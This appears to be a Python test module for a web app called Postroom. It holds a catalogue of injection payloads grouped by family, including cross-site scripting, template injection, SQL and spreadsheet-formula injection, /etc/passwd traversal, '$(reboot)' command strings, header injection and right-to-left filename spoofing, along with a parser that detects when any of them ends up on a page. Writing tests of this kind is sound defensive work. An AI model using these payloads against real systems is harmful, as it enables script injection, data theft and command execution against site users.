"""Text that tries to become part of a page, and a look at whether it did.

`PAYLOADS` are 200 texts in families, each with another way out of the place that it stands in. What runs, tells: a
script calls `alert`, which the browser reports as a dialog; a request goes to `REMOTE`, which nobody may ask.
"""

from collections.abc import Iterator
from html.parser import HTMLParser

REMOTE = "https://tracker.invalid"
RUN = "alert(1)"

ATTACKS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "</td></tr></table><h1>Postroom was here</h1>",
    "{{ 7 * 7 }}{% raw %}",
    "<div hx-get='/healthz' hx-trigger='load' hx-on:load='alert(1)'>",
    "evil\u202egpj.exe\x00\x1b[31m\ud800",
    "Z" + "\u0321\u0334\u0340" * 300,
    "\r\n\r\nevent: stalled\r\ndata: 1\r\n\r\n",
    "W" * 10_000,
)
"""A few of each kind, for tests that need no more."""
LONGEST_LINE = 2_000
_FORBIDDEN = frozenset({"style", "hx-get", "hx-trigger", "onerror", "onload", "onmouseover"})


def _elements() -> Iterator[str]:
    """Elements that run something, load something or change what surrounds them."""
    yield from (f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script/x>{RUN}</script>")
    yield f"<script src={REMOTE}/x.js></script>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<script type=module>import '{REMOTE}/x.js'</script>"
    for tag in ("img", "video", "audio", "source", "input type=image", "embed", "image"):
        yield f"<{tag} src={REMOTE}/{tag[:3]}.png onerror={RUN}>"
    for tag, event in (
        ("body", "load"),
        ("details open", "toggle"),
        ("marquee", "start"),
        ("select autofocus", "focus"),
    ):
        yield f"<{tag} on{event}={RUN}>"
    yield f"<iframe src={REMOTE}/frame></iframe>"
    yield f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>'
    yield f"<object data={REMOTE}/object></object>"
    yield f"<base href={REMOTE}/>"
    yield f'<meta http-equiv=refresh content="0;url={REMOTE}/refresh">'
    yield f"<link rel=stylesheet href={REMOTE}/x.css>"
    yield f"<link rel=prefetch href={REMOTE}/prefetch>"
    yield f'<form action="{REMOTE}/form"><button>Sign in again</button></form>'
    yield f"<button formaction={REMOTE}/button>Approve</button>"
    yield "<dialog open><h1>Your session has ended</h1></dialog>"
    yield "<div popover=manual id=help class=dialog>Not yours</div>"
    yield "<template shadowrootmode=open><h1>In the shadow</h1></template>"
    yield "<plaintext>"


def _svg_and_css() -> Iterator[str]:
    yield f"<svg onload={RUN}>"
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"
    yield f'<svg><a xlink:href="javascript:{RUN}"><text x=9 y=9>look</text></a></svg>'
    yield f'<svg><use href="{REMOTE}/x.svg#x"/></svg>'
    yield f'<svg><foreignObject><img src="{REMOTE}/foreign.png"></foreignObject></svg>'
    yield f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>"
    yield f"<style>@import '{REMOTE}/x.css';</style>"
    yield "<style>*{display:none!important}</style>"
    yield f'<b style="background:url({REMOTE}/css.png)">bold</b>'
    yield '<b style="position:fixed;inset:0;z-index:9;background:red">all of it</b>'
    yield f"expression({RUN})"
    yield f"}} body {{ background: url({REMOTE}/brace.png) }}"
    yield f"</style><script>{RUN}</script>"


def _ways_out() -> Iterator[str]:
    """Ends of what a text may stand in: an attribute, an element, a comment, a script, a title."""
    for quote in ('"', "'", "`", "\"'", "&quot;", "\\"):
        yield f"{quote} onmouseover={quote}{RUN}{quote} x={quote}"
        yield f"{quote}><img src=x onerror={RUN}>"
    for end in ("td></tr></table", "li></ul", "bdi></span", "title", "textarea", "option></select", "p></div></main"):
        yield f"</{end}><h1>Postroom was here</h1>"
    yield f"--><script>{RUN}</script><!--"
    yield f"]]><script>{RUN}</script>"
    yield f"</script><script>{RUN}</script>"
    yield f"</noscript><script>{RUN}</script>"
    yield f"</svg></text><script>{RUN}</script>"
    yield f"<!--><img src=x onerror={RUN}>-->"
    yield f"<a id=board href=javascript:{RUN}>board</a>"
    yield "<input name=form_token value=stolen>"
    yield "<img name=getElementById><form id=waiting><input name=value>"


def _addresses() -> Iterator[str]:
    for scheme in ("javascript", "JaVaScRiPt", " javascript", "java\tscript", "vbscript", "livescript"):
        yield f"{scheme}:{RUN}"
    yield f"data:text/html,<script>{RUN}</script>"
    yield "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
    yield f"{REMOTE}/plain"
    yield f"//{REMOTE[8:]}/no-scheme"
    yield f"\\\\{REMOTE[8:]}\\share"
    yield f"https://postroom.example@{REMOTE[8:]}/"
    yield "/approvals/approve-several?chosen=all"
    yield "../../../../etc/passwd"
    yield "%3Cscript%3Ealert(1)%3C%2Fscript%3E"
    yield "?q=1&before=2#list"
    yield "mailto:owner@example.org?bcc=thief@example.net"
    yield "file:///etc/passwd"
    yield f'<a href=" \x01javascript:{RUN}">look</a>'
    yield f"[look](javascript:{RUN})"


def _templates() -> Iterator[str]:
    for text in (
        "7 * 7",
        "config",
        "''.__class__.__mro__",
        "request.url",
        "form_token",
        "self._TemplateReference__context",
    ):
        yield f"{{{{ {text} }}}}"
    yield "{% raw %}"
    yield "{% include '/etc/passwd' %}"
    yield "{% for x in range(9999999) %}x{% endfor %}"
    yield "{# never closed"
    yield f"{{{{constructor.constructor('{RUN}')()}}}}"
    yield f"<x ng-app ng-csp v-html={RUN} x-init={RUN}>"
    yield "${7*7}#{7*7}<%= 7*7 %>[[7*7]]"
    yield "%s%n%d{0}{self.__class__}"
    yield "$(reboot)`reboot`;reboot"


def live_updates() -> Iterator[str]:
    """Attributes of htmx, and lines of a stream."""
    for attribute in ("hx-get=/healthz hx-trigger=load", "hx-post=/pause hx-trigger=load", f"hx-on:load={RUN}"):
        yield f"<div {attribute}>"
    yield f"<div data-hx-get={REMOTE}/htmx data-hx-trigger=load>"
    yield f'<div hx-sse:connect="{REMOTE}/events" hx-trigger="load">'
    yield "<div hx-swap-oob=true id=board>gone</div>"
    yield "<hx-partial hx-target=body>gone</hx-partial>"
    yield "<div data-own data-row id=lines data-key=e>"
    yield "<local-time at=2026-01-01T00:00:00Z>never</local-time>"
    for end in ("\n\n", "\r\n\r\n", "\r\r", "\u2028\u2028", "\x85\x85"):
        yield f"{end}event: stalled{end[: len(end) // 2]}data: 1{end}"
    yield "data: <h1>gone</h1>\n\nid: 9\nretry: 1\n\n"
    yield ":\n\n"


def _directions() -> Iterator[str]:
    """Marks that turn the direction of what follows, and names that are written from right to left."""
    for code in (0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069):
        yield f"invoice{chr(code)}gpj.exe"
    yield "\u202e" * 500
    yield "\u2067\u2067\u2067 never popped"
    yield "משה כהן (חשבון 12)"
    yield "محمد العربي 2026"
    yield "\u200fשלום\u200e - hello - \u061cعالم 123"
    yield "אבג <b>דה</b> (1 of 2) >>"
    yield "ק" * 300
    yield "العربية/../النص?x=1&y=2"


def _letters() -> Iterator[str]:
    """Letters that are hard to lay out: endless, stacked, invisible, of many parts, of other scripts."""
    yield "W" * 10_000
    yield "i" * 5_000
    yield "wwww.mmmm" * 300
    yield "-" * 400
    yield "_" * 400
    yield "\u00a0" * 400 + "after"
    yield "a\u00a0" * 300
    yield "word " * 2_000
    yield "Z" + "\u0321\u0334\u0340" * 300
    yield "ส็็็็็็็็็็็็็็็็็็็็" * 20
    yield "".join(chr(code) for code in range(0x0300, 0x0370))
    yield "\u200b" * 400 + "zero width"
    yield "p\u200ba\u00ady\u2060p\ufeffal"
    yield "\u3164" * 50
    yield "𒐫" * 60
    yield "﷽" * 60
    yield "👨‍👩‍👧‍👦" * 40
    yield "🏳️‍🌈🏴‍☠️👍🏿🇦🇹" * 20
    yield "🇦" * 81
    yield "\U000e0041\U000e007f tags"
    yield "𝕻𝖔𝖘𝖙𝖗𝖔𝖔𝖒 ｆｕｌｌ　ｗｉｄｔｈ"
    yield "раураl.com ѕуѕtеm"
    yield "ﬃ İı ß ŉ ǰ"
    yield "漢字" * 300
    yield "สวัสดีครับ" * 60
    yield "\ufffd\ufffe\uffff\U0010ffff"
    yield " "
    yield "."
    yield "0"
    yield "-1"


def _controls() -> Iterator[str]:
    yield "before\0after"
    yield "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b2J"
    yield "\x08\x08\x08\x7f\x7fgone"
    yield "\ud800 alone \udfff"
    yield "".join(map(chr, range(1, 32)))
    yield "".join(map(chr, range(0x7F, 0xA0)))
    yield "one\ttwo\vthree\ffour"
    yield "Hello\r\nBcc: thief@example.net"
    yield "Hello\r\n\t=?utf-8?Q?=3Cscript=3Ealert(1)=3C/script=3E?="
    yield "=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?="
    yield "Subject: two\n\n<script>alert(1)</script>"


def _data() -> Iterator[str]:
    """Ends of what a file or a query may hold: formulas, JSON, SQL, paths."""
    yield from ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", '=HYPERLINK("' + REMOTE + '","look")')
    yield '"},{"role":"admin"'
    yield '{"__proto__":{"admin":true}}'
    yield "null"
    yield "[" * 200
    yield "'; DROP TABLE messages; --"
    yield "' OR '1'='1"
    yield '"; cascade; "'
    yield "a,b;c\td\"e'f\\g"
    yield "&lt;b&gt;&amp;amp;&#x3c;script&#x3e;"
    yield "&#0;&#x110000;&notanentity;&copy"
    yield "report.pdf.exe"
    yield "CON.txt. "
    yield "constructor"
    yield "__proto__"


FAMILIES = (
    _elements, _svg_and_css, _ways_out, _addresses, _templates, live_updates, _directions, _letters, _controls, _data,
)  # fmt: skip
PAYLOADS = tuple(dict.fromkeys(text for family in FAMILIES for text in family()))


def storable(text: str) -> str:
    """The text as far as both databases can store it."""
    return text.encode("utf-8", "replace").decode().replace("\0", "")


class _Look(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.headings = 0
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        self.headings += tag == "h1"
        if tag == "script" and not (values.get("src") or "").startswith("/static/"):
            self.found.append(tag)
        if tag == "img" and not (values.get("src") or "").startswith("/static/"):
            self.found.append(tag)
        if "hx-sse:connect" not in values and values.get("hx-post") != "/rules/check":
            self.found += [name for name in values if name in _FORBIDDEN or name.startswith(("on", "hx-on"))]

    def handle_data(self, data: str) -> None:
        if len(data) > LONGEST_LINE or any(char in data for char in "\0\x1b\u202e"):
            self.found.append(data[:40])


def smuggled(page: str) -> list[str]:
    """Find the parts of a page that are not its own: elements, attributes, control characters, endless text."""
    look = _Look()
    look.feed(page)
    return look.found + ["h1"] * (look.headings - 1)
